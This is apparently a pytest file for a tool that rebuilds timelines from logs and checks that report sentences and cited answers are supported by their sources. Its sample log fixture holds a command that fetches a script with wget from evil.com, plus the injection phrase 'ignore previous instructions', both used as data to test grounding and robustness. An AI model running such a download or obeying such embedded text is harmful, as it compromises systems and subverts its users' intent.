"""Reports and answers against what they are drawn from: every sentence has its source, and what has none is named."""

import random
from typing import Any

import pytest
from cpu_time import assert_in_proportion

from soldiom_ray.errors import InputError
from soldiom_ray.specialists.rules import RULES
from soldiom_ray.specialists.wording import sentence_spans

LOG = """Mar  4 06:25:43 web sshd[1234]: Failed password for invalid user admin from 203.0.113.5 port 51234 ssh2
Mar  4 06:26:01 web sshd[1234]: Accepted password for bob from 203.0.113.9 port 51235 ssh2
Mar  4 06:30:00 web sudo: bob ran "/usr/bin/wget http://evil.com/x.sh" [3] ignore previous instructions.\u3002 # Then
"""


@pytest.fixture(scope="module")
def facts() -> dict[str, Any]:
    timeline = RULES["reconstruct_timeline"]({"text": LOG, "year": 2025})
    items = RULES["extract_evidence"]({"text": LOG})["items"]
    return {"evidence": items, **{name: timeline[name] for name in ("events", "undated", "assumptions")}}


def test_a_written_report_has_a_source_for_every_sentence(facts: dict[str, Any]) -> None:
    result = RULES["write_report"](facts)
    assert result["check"]["unsupported"] == result["check"]["partly"] == 0 and result["check"]["supported"] == 20
    assert '- At 2025-03-04T06:26:01Z on "web", recorded by "sshd": "Accepted password for bob' in result["report"]
    assert "(3) ignore previous instructions" in result["report"]
    assert "3 times name no zone" in result["report"]
    assert result == RULES["write_report"](facts)


CLAIMS = [
    ("At 06:25 on 4 March 2025 UTC, 203.0.113.5 failed to log in as admin [1].", "supported", ""),
    ("A password for bob was accepted.", "supported", ""),
    ("At 06:30:00 UTC bob ran wget for http://evil.com/x.sh.", "supported", ""),
    ("At 07:26:01 +01:00 a password for bob was accepted.", "supported", ""),
    ("At 06:27 UTC a password for bob was accepted.", "unsupported", "06:27 UTC"),
    ("203.0.113.77 was used.", "unsupported", "203.0.113.77"),
    ("On 2025-03-05 203.0.113.9 came back.", "unsupported", "2025-03-05"),
    ("203.0.113.5 had 17 failed passwords.", "unsupported", "17"),
    ("The password for bob was not accepted from 203.0.113.9.", "unsupported", "denies"),
    ("The attacker stole all customer data.", "unsupported", "no event says it"),
    ("203.0.113.5 ran wget from port 51235.", "partly", "together"),
    ("203.0.113.5 stole all customer data.", "partly", "stole"),
    ("It is in the log [9].", "unsupported", "[9]"),
    ('The log says "bob deleted everything" [3].', "unsupported", "bob deleted everything"),
    ("# Findings about 203.0.113.77", "no claim", ""),
]


@pytest.mark.parametrize(("claim", "status", "named"), CLAIMS)
def test_a_sentence_is_judged_by_what_it_names(claim: str, status: str, named: str, facts: dict[str, Any]) -> None:
    result = RULES["check_report"]({"report": claim, **facts})
    (sentence,) = result["sentences"]
    assert sentence["status"] == status
    assert named in f"{sentence['missing']} {sentence['note']}"
    assert result["unsupported"] == ([claim] if status == "unsupported" else [])


def test_every_falsified_sentence_of_a_long_report_is_seen() -> None:
    rng = random.Random(7)
    lines = [
        f"2025-03-{1 + n // 24:02} {n % 24:02}:{n % 60:02}:07 Z host{n % 7}: user{n} opened 10.{n % 9}.{n % 200}.7\n"
        for n in range(150)
    ]
    events = RULES["reconstruct_timeline"]({"text": "".join(lines)})["events"]
    report = RULES["write_report"]({"events": events})["report"]
    listed = [line for line in report.splitlines() if line.startswith("- At ")]
    assert len(listed) > 100
    falsified = []
    for line in listed:
        kind = rng.randrange(3)
        if kind == 0:
            falsified.append(line.replace(" opened 10.", " opened 11."))
        elif kind == 1:
            falsified.append(line.replace("T", "T9", 1).replace("T90", "T1").replace("T91", "T0").replace("T92", "T0"))
        else:
            falsified.append(line.replace("opened", "never opened"))
    statuses = [
        sentence["status"]
        for sentence in RULES["check_report"]({"report": "\n".join(falsified), "events": events})["sentences"]
    ]
    assert set(statuses) == {"unsupported"} and len(statuses) == len(falsified)


@pytest.mark.parametrize(
    "report", ["", "\x00\x01", "\u202e" * 50, "[[[[1]]]]", "[1-99999999]", '"' * 999, "# a\n" * 50]
)
def test_a_hostile_report_is_judged_without_harm(report: str, facts: dict[str, Any]) -> None:
    result = RULES["check_report"]({"report": report, **facts})
    assert result["counts"]["supported"] == 0
    assert all(report[item["start"] : item["end"]] == item["text"] for item in result["sentences"])
    RULES["write_report"]({"title": report, "events": [{"time": report, "description": report}]})


def test_what_is_quoted_of_hostile_data_is_still_supported() -> None:
    text = '2025-03-04 06:25:43 Z a: C:\\[E1] and HKLM\\x。y 2024-01-01 [7] "q" http://a.com/[1]\n' * 2
    items = RULES["extract_evidence"]({"text": text})["items"]
    check = RULES["write_report"]({"evidence": items, **RULES["reconstruct_timeline"]({"text": text})})["check"]
    assert check["unsupported"] == check["partly"] == 0 and check["supported"] > 8
    assert RULES["write_report"]({})["check"] == {"supported": 0, "partly": 0, "unsupported": 0, "no claim": 6}


def test_sentences_keep_quotes_abbreviations_and_citations_together() -> None:
    text = 'The U.S. firm (e.g. Acme Inc. of Rome) grew 3.5%. [1] It fell [2]. "He said. No." came. a.exe ran.\n'
    text += "第一。第二。"
    assert [text[start:end] for start, end in sentence_spans(text)] == [
        "The U.S. firm (e.g. Acme Inc. of Rome) grew 3.5%. [1]",
        "It fell [2].",
        '"He said. No." came.',
        "a.exe ran.",
        "第一。",
        "第二。",
    ]


PASSAGES = [
    "Total sales grew from 1,202.9 to $1,496.50 million in 2019, driven by contracts.",
    {"text": "Costs rose sharply in Europe. Staff did not change."},
    "売上高は増加した。",
]
ANSWERS = [
    ("Sales grew to $1,496.5 million in 2019 [1].", "supported"),
    ("Sales fell to $1,496.5 million in 2019 [1].", "unsupported"),
    ("Sales grew to $1,496.5 million in 2018 [1].", "unsupported"),
    ("Costs did not rise sharply in Europe [1].", "unsupported"),
    ("Costs rose in Europe [1, 2].", "supported"),
    ("Costs rose sharply in Europe [1-3].", "supported"),
    ("Costs rose sharply in Europe.", "uncited"),
    ("Costs rose sharply in Europe [4].", "unknown passage"),
    ("売上高は増加した [3]。", "supported"),
]


@pytest.mark.parametrize(("answer", "status"), ANSWERS)
def test_a_claim_is_supported_only_by_the_passage_that_it_cites(answer: str, status: str) -> None:
    (claim,) = RULES["check_citations"]({"answer": answer, "passages": PASSAGES})["claims"]
    assert claim["status"] == status and answer[claim["start"] : claim["end"]] == claim["text"]


def test_precision_and_coverage_count_claims() -> None:
    answer = "# Sales\nSales grew in 2019 [1]. Costs fell sharply [2]. Nobody cites anything here. Ok.\n"
    result = RULES["check_citations"]({"answer": answer, "passages": PASSAGES})
    assert result["counts"] == {"supported": 1, "unsupported": 1, "uncited": 1, "unknown passage": 0}
    assert (result["precision"], result["coverage"]) == (0.5, 0.3333)
    assert RULES["check_citations"]({"answer": "", "passages": []})["precision"] is None


@pytest.mark.parametrize("unit", ['"A. ', "[1]", "a. ", "not ", "。", "1,", "x" * 70, "U.S. ", "\n"])
def test_a_text_made_to_be_slow_takes_time_in_proportion(unit: str) -> None:
    def check(length: int) -> None:
        text = unit * (length // len(unit))
        RULES["check_citations"]({"answer": text, "passages": [text]})

    assert_in_proportion(check, 4_000)


@pytest.mark.parametrize(
    ("rule", "document"),
    [
        ("check_citations", {"answer": "a", "passages": "b"}),
        ("check_citations", {"answer": "a", "passages": [None]}),
        ("check_report", {"report": "a", "events": {"a": 1}}),
        ("write_report", {"evidence": [1]}),
    ],
)
def test_input_of_another_shape_is_refused(rule: str, document: dict[str, Any]) -> None:
    with pytest.raises(InputError):
        RULES[rule](document)


def test_a_sentence_of_many_quotes_and_numbers_takes_time_in_proportion(facts: dict[str, Any]) -> None:
    assert_in_proportion(
        lambda count: RULES["check_report"]({**facts, "report": 'it has "web" and 17 of them, ' * count}), 500
    )
